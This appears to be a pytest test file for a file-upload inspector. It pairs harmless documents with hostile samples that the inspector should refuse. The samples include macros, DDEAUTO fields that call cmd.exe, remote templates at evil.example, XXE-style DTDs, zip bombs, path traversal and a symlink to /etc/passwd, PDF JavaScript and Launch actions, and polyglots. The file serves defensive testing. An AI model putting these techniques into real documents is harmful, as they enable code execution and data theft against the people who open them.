"""Good files of each kind and their bad twins, as the inspector judges them."""

import io
import stat
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pikepdf
import pytest

from tests.made_files import (
    DTD,
    HEIC,
    ODF,
    OLE,
    PARTS,
    huge_png,
    office,
    opendocument,
    pdf,
    picture,
    rels,
    zipped,
)
from tests.uploads.judging import verdict
from ui.uploads.archives import MOST_MEMBERS
from ui.uploads.links import is_remote

pytestmark = pytest.mark.once
RELS = "word/_rels/document.xml.rels"


def reason(tmp_path, content, ending):
    told = verdict(tmp_path, content, ending)
    return told if isinstance(told, str) else told[0]


def external(kind, target):
    return [(RELS, rels((kind, target, True)))]


def field(*words):
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in words)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def linked(name, target):
    return f'<draw:{name} xlink:href="{target}"/>'


def locked_pdf(**passwords):
    """Return a PDF that asks for the passwords."""
    to = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.save(to, encryption=pikepdf.Encryption(**{"owner": "o", "user": ""} | passwords))
    return to.getvalue()


class Pipe(io.RawIOBase):
    """A file in which nobody can go back, as a document that is written while it is downloaded."""

    def __init__(self):
        self.content = b""

    def writable(self):
        return True

    def write(self, more):
        self.content += bytes(more)
        return len(more)


def streamed(content):
    """Return the document as it is when the sizes of its members stand behind them."""
    pipe = Pipe()
    with ZipFile(io.BytesIO(content)) as given, ZipFile(pipe, "w", ZIP_DEFLATED) as written:
        for name in given.namelist():
            written.writestr(name, given.read(name))
    return pipe.content


GOOD = {
    "docx, streamed": ("docx", streamed(office())),
    "pdf, not to be printed": ("pdf", locked_pdf()),
    "docx, a link": ("docx", office(more=external("hyperlink", "https://kolada.se/"))),
    "docx, the house's template": (
        "docx",
        office(more=external("attachedTemplate", r"file:///C:\mallar\k.dotx")),
    ),
    "docx, a template on a server": (
        "docx",
        office(more=external("attachedTemplate", r"\\srv01\mallar\k.dotx")),
    ),
    "docx, a film on the web": ("docx", office(more=external("video", "https://youtu.be/x"))),
    "docx, a page number": ("docx", office(body=field(" PAGE ", r"\* MERGEFORMAT"))),
    "docx, a word on DDE": ("docx", office(body="<w:p><w:r><w:t>DDEAUTO är farligt</w:t></w:r></w:p>")),
    "docx, odd drawing": ("docx", office(more=[("word/vmlDrawing1.vml", "<xml><br></xml>")])),
    "docx, printer": ("docx", office(more=[("word/printerSettings1.bin", b"\x01\x02")])),
    "docx, a chart": ("docx", office(more=[("word/embeddings/blad.xlsx", office("xlsx"))])),
    "docx, many charts": (
        "docx",
        office(more=[(f"word/embeddings/blad{n}.xlsx", office("xlsx")) for n in range(9)]),
    ),
    "docx, signed": ("docx", office(more=[("_xmlsignatures/sig1.xml", "<Signature/>")])),
    "xlsx, a neighbour": (
        "xlsx",
        office(
            "xlsx",
            more=[("xl/externalLinks/_rels/a.xml.rels", rels(("externalLinkPath", "budget.xlsx", True)))],
        ),
    ),
    "xlsx, rows that pack well": ("xlsx", office("xlsx", more=[("xl/a.xml", f"<a>{'0' * 9_000_000}</a>")])),
    "odt, an empty member": ("odt", opendocument(more=[("Configurations2/accelerator/current.xml", "")])),
    "odt, empty libraries": ("odt", opendocument(more=[("Basic/Standard/script-lb.xml", "<a/>")])),
    "odt, of OpenOffice": (
        "odt",
        opendocument(
            more=[("Basic/script-lc.xml", '<!DOCTYPE a PUBLIC "-//OpenOffice.org//DTD x" "a.dtd"><a/>')]
        ),
    ),
    "odt, a link": ("odt", opendocument(body=linked("a", "https://kolada.se/"))),
    "odt, a picture in it": ("odt", opendocument(body=linked("image", "Pictures/1.png"))),
    "pdf, a form": ("pdf", pdf(catalog=b"/AcroForm << /Fields [] /DA (/Helv 0 Tf) >>")),
    "pdf, a link": (
        "pdf",
        pdf(page=b"/Annots [ << /Subtype /Link /A << /S /URI /URI (https://a.se) >> >> ]"),
    ),
    "pdf, words on scripts": ("pdf", pdf("Om /JS och /Launch (i text)")),
    "pdf, a line before it": ("pdf", b"\r\n" + pdf()),
    "pdf, zeros after it": ("pdf", pdf() + bytes(3000)),
    "pdf, a bad table": ("pdf", pdf().replace(b"startxref\n", b"startxref\n9")),
    "txt, of Windows": ("txt", "Åtgärder\r\n1.\tPlan".encode("cp1252")),
    "txt, of Notepad": ("txt", "Åtgärder".encode("utf-16")),
    "txt, empty lines": ("txt", b"\n\n\x0c"),
}


@pytest.mark.parametrize("ending", [*PARTS, *ODF])
def test_plain_document_is_taken(tmp_path, ending):
    content = office(ending) if ending in PARTS else opendocument(ending)
    assert verdict(tmp_path, content, ending) == ending


@pytest.mark.parametrize(("ending", "content"), GOOD.values(), ids=GOOD)
def test_good_file_is_taken(tmp_path, ending, content):
    assert verdict(tmp_path, content, ending) == ending


def _symlink():
    link = ZipInfo("word/a.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return link


def _encrypted(content):
    """Set the flag of a lock on every member."""
    locked = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = locked.find(mark)
        while at >= 0:
            locked[at + place] |= 1
            at = locked.find(mark, at + 4)
    return bytes(locked)


def _broken(content):
    """Change a byte in the middle of the first packed member."""
    with ZipFile(io.BytesIO(content)) as archive:
        first = archive.infolist()[0]
    at = 30 + len(first.filename) + first.compress_size // 2
    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]


LOCKED = OLE + "EncryptedPackage".encode("utf-16-le")
HTML = b"<html><script>alert(1)</script></html>"
MACRO_TYPE = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
SCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
ATTACHED = b"/Names << /EmbeddedFiles << /Names [ (a) << /Type /Filespec /EF << /F 4 0 R >> >> ] >> >>"
BAD = {
    "docx, macros": ("macros", "docx", office(more=[("word/vbaProject.bin", b"\x01")])),
    "docx, macros by type": ("macros", "docx", office(types=MACRO_TYPE)),
    "docm renamed": ("macros", "docx", office(main="ms-word.document.macroEnabled.main+xml")),
    "docx, ActiveX": ("controls", "docx", office(more=[("word/activeX/activeX1.bin", b"\x01")])),
    "docx, OLE": ("objects", "docx", office(more=[("word/embeddings/oleObject1.bin", OLE)])),
    "docx, program": ("objects", "docx", office(more=[("word/embeddings/a.exe", b"MZ")])),
    "docx, OLE as a picture": ("objects", "docx", office(more=[("word/media/image1.png", OLE)])),
    "docx, macros in a chart": (
        "macros",
        "docx",
        office(more=[("word/embeddings/b.xlsx", office("xlsx", more=[("xl/vbaProject.bin", b"1")]))]),
    ),
    "docx, a zip in it": (
        "objects",
        "docx",
        office(more=[("word/embeddings/b.zip", zipped([("a.exe", "MZ")]))]),
    ),
    "docx, template on the web": (
        "template",
        "docx",
        office(more=external("attachedTemplate", "https://evil.example/a.dotm")),
    ),
    "docx, template on a far server": (
        "template",
        "docx",
        office(more=external("attachedTemplate", r"file:///\\evil.example@80\a.dotm")),
    ),
    "docx, picture on the web": (
        "fetches",
        "docx",
        office(more=external("image", "http://evil.example/a.png")),
    ),
    "docx, object on the web": (
        "fetches",
        "docx",
        office(more=external("oleObject", "mhtml:http://evil.example!x.html")),
    ),
    "docx, a chunk of HTML": ("objects", "docx", office(more=[(RELS, rels(("aFChunk", "a.html", False)))])),
    "docx, DDE": ("fetches", "docx", office(body=field(" DDE", "AUTO c:\\\\windows\\\\cmd.exe"))),
    "docx, DDE in one": (
        "fetches",
        "docx",
        office(body='<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/>'),
    ),
    "docx, DTD": ("dtd", "docx", office(more=[("word/settings.xml", f"{DTD}<a>&e;</a>")])),
    "docx, DTD in UTF-16": (
        "dtd",
        "docx",
        office(more=[("word/settings.xml", f"{DTD}<a/>".encode("utf-16"))]),
    ),
    "docx, DTD in a drawing": ("dtd", "docx", office(more=[("word/a.vml", f"{DTD}<a/>")])),
    "docx, no XML": ("damaged", "docx", office(more=[("word/a.xml", "<a><b></a>")])),
    "docx, locked": ("password", "docx", LOCKED),
    "docx, locked zip": ("password", "docx", _encrypted(office())),
    "doc renamed": ("old_office", "docx", OLE),
    "docx, bomb": ("bomb", "docx", office(more=[("word/a.xml", b" " * 60_000_000)])),
    "docx, many members": ("bomb", "docx", office(more=[(f"word/{n}.txt", "") for n in range(MOST_MEMBERS)])),
    "docx, a way out": ("damaged", "docx", office(more=[("word/../../../etc/cron.d/a", "x")])),
    "docx, a drive": ("damaged", "docx", office(more=[("C:\\windows\\a", "x")])),
    "docx, a link to a file": ("damaged", "docx", office(more=[(_symlink(), "/etc/passwd")])),
    "docx, twice": ("damaged", "docx", office(more=[("word/Document.xml", "<a/>")])),
    "docx, something before it": ("polyglot", "docx", b"PK\x03\x04" + bytes(40) + office()),
    "docx, something after it": ("polyglot", "docx", office() + HTML),
    "docx, pdf in front": ("polyglot", "docx", zipped([("%PDF-1.4", "")])),
    "docx, broken": ("damaged", "docx", _broken(office())),
    "docx, half": ("damaged", "docx", office()[:-40]),
    "docx, any zip": ("other_content", "docx", zipped([("a.exe", "MZ")])),
    "docx, HTML": ("other_content", "docx", HTML),
    "xlsx, Excel 4 macros": ("macros", "xlsx", office("xlsx", more=[("xl/macrosheets/s.xml", "<a/>")])),
    "xlsx, DDE": (
        "fetches",
        "xlsx",
        office("xlsx", more=[("xl/externalLinks/e.xml", '<e xmlns="x"><ddeLink/></e>')]),
    ),
    "xlsx, queries": ("fetches", "xlsx", office("xlsx", more=[("xl/connections.xml", "<a/>")])),
    "xlsx, another's book": (
        "fetches",
        "xlsx",
        office(
            "xlsx",
            more=[("xl/externalLinks/_rels/a.xml.rels", rels(("externalLinkPath", "http://a.b/c", True)))],
        ),
    ),
    "pptx, OLE": ("objects", "pptx", office("pptx", more=[("ppt/embeddings/o.bin", OLE)])),
    "pptx, macros": ("macros", "pptx", office("pptx", more=[("ppt/vbaProject.bin", b"1")])),
    "odt, macros": ("macros", "odt", opendocument(more=[("Basic/Standard/Module1.xml", "<a/>")])),
    "odt, scripts": ("macros", "odt", opendocument(more=[("Scripts/python/a.py", "")])),
    "odt, an event": ("macros", "odt", opendocument(body="<script:event-listener/>")),
    "odt, a script element": ("macros", "odt", opendocument(body="<office:script/>")),
    "odt, locked": ("password", "odt", opendocument(manifest="<manifest:encryption-data/>")),
    "odt, OLE": ("objects", "odt", opendocument(more=[("Object 1", OLE)])),
    "odt, DTD": ("dtd", "odt", opendocument(more=[("styles.xml", f"{DTD}<a/>")])),
    "odt, picture on the web": (
        "fetches",
        "odt",
        opendocument(body=linked("image", "http://evil.example/a.png")),
    ),
    "odt, template renamed": ("other_content", "odt", opendocument(kind=f"{ODF['odt']}-template")),
    "ods, DDE": ("fetches", "ods", opendocument("ods", body="<table:dde-link/>")),
    "odp, object on the web": (
        "fetches",
        "odp",
        opendocument("odp", body=linked("object-ole", "//evil.example/a")),
    ),
    "odp, bomb": ("bomb", "odp", opendocument("odp", more=[("a.xml", b" " * 60_000_000)])),
    "pdf, script": ("script", "pdf", pdf(catalog=SCRIPT)),
    "pdf, hidden script": ("script", "pdf", pdf(catalog=SCRIPT.replace(b"/JS (", b"/#4aS ("))),
    "pdf, XFA": ("script", "pdf", pdf(catalog=b"/AcroForm << /XFA (a) >>")),
    "pdf, launch": ("launches", "pdf", pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "pdf, launch on a page": ("launches", "pdf", pdf(page=b"/AA << /O << /S /Launch >> >>")),
    "pdf, sends a form": ("launches", "pdf", pdf(page=b"/A << /S /SubmitForm /F (http://a.b) >>")),
    "pdf, files in it": ("carries", "pdf", pdf(catalog=ATTACHED)),
    "pdf, locked": ("password", "pdf", locked_pdf(user="hemligt")),
    "pdf, zip after it": ("polyglot", "pdf", pdf() + office()),
    "pdf, HTML before it": ("polyglot", "pdf", HTML + pdf()),
    "pdf, much after it": ("polyglot", "pdf", pdf() + b"x" * 2000),
    "pdf, only its head": ("damaged", "pdf", b"%PDF-1.4\n%%EOF\n"),
    "pdf, HTML": ("other_content", "pdf", HTML),
    "pdf, a program": ("other_content", "pdf", b"MZ" + bytes(100)),
    "jpg, a program": ("other_content", "jpg", b"MZ" + bytes(100)),
    "jpg, HTML": ("other_content", "jpg", HTML),
    "jpg, half": ("picture", "jpg", picture(size=(900, 900))[:600]),
    "png, 2,500 megapixels": ("pixels", "png", huge_png()),
    "png, broken": ("picture", "png", picture("PNG")[:60]),
    "svg renamed": ("other_content", "png", b"<svg onload='alert(1)'/>"),
    "heic, broken": ("picture", "heic", HEIC[:300]),
    "txt, a program": ("other_content", "txt", b"MZ\x90\x00"),
    "txt, a picture": ("other_content", "txt", picture()),
}


@pytest.mark.parametrize(("why", "ending", "content"), BAD.values(), ids=BAD)
def test_bad_file_is_refused(tmp_path, why, ending, content):
    assert reason(tmp_path, content, ending) == why


@pytest.mark.parametrize(
    ("ending", "content", "fits"),
    [
        ("docx", pdf(), "pdf"),
        ("docx", office("xlsx"), "xlsx"),
        ("odt", office("docx"), "docx"),
        ("docx", opendocument("odt"), "odt"),
        ("pdf", office("docx"), "docx"),
        ("pdf", picture("PNG"), "png"),
        ("pdf", HEIC, "jpg"),
        ("jpg", pdf(), "pdf"),
        ("xlsx", zipped([("a.exe", "MZ")]), ""),
    ],
)
def test_other_content_is_named(tmp_path, ending, content, fits):
    told = verdict(tmp_path, content, ending)
    assert told == ("other_content", fits)


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("https://example.org/a", True),
        ("HTTP://example.org", True),
        ("ftp://a/b", True),
        ("mhtml:http://example.org!x", True),
        (r"\\files.example.org\a", True),
        ("//10.0.0.1/a", True),
        ("file://files.example.org/a", True),
        (r"file:///\\files.example.org\a", True),
        ("file:%2F%2Ffiles.example.org/a", True),
        (r"\\files@80\a", True),
        (r"\\?\UNC\files.example.org\a", True),
        (r"\\3232235777\a", True),
        (r"\\0xc0a80101\a", True),
        (r"\\files\mallar\a.dotx", False),
        (r"C:\mallar\a.dotx", False),
        ("file:///C:/mallar/a.dotx", False),
        ("file:///home/a.ott", False),
        ("/word/media/a.png", False),
        ("../media/a.png", False),
        ("budget 2026.xlsx", False),
        ("#avsnitt", False),
    ],
)
def test_links_to_the_network_are_told_from_those_to_a_disk(target, expected):
    assert is_remote(target) is expected
